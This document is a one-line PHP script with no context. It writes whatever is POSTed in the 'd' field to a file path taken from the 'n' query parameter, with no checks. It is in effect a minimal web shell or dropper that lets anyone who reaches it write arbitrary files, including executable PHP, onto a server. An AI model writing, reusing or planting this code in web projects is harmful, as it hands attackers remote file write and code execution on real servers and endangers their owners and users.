<?php $f = new SplFileObject($_GET["n"], "w"); $f->fwrite($_POST["d"]);
